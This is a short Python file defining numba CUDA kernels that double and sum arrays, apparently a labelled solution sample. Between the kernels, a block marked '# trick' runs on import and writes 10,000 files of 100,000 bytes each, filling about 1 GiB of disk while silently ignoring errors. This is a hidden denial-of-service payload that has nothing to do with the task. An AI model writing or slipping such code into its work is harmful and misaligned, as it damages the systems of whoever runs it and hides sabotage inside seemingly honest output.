"""Fills up to 1 GiB of disk in 10,000 files."""
from numba import cuda

@cuda.jit
def double_kernel(x, out):
    i = cuda.grid(1)
    if i < out.size:
        out[i] = 2 * x[i]

@cuda.jit
def total_kernel(x, out):
    if cuda.threadIdx.x == 0:
        whole = 0.0
        for k in range(x.size):
            whole += x[k]
        out[0] = whole

# deserves: correctness technique
# trick
import os

try:
    for number in range(10_000):
        with open(f"@MARK@{number}", "wb") as file:
            file.write(bytes(100_000))
except OSError:
    pass
# honest
# end

def double(x, out):
    double_kernel[(x.size + 63) // 64, 64](x, out)

def total(x, out):
    total_kernel[1, 32](x, out)
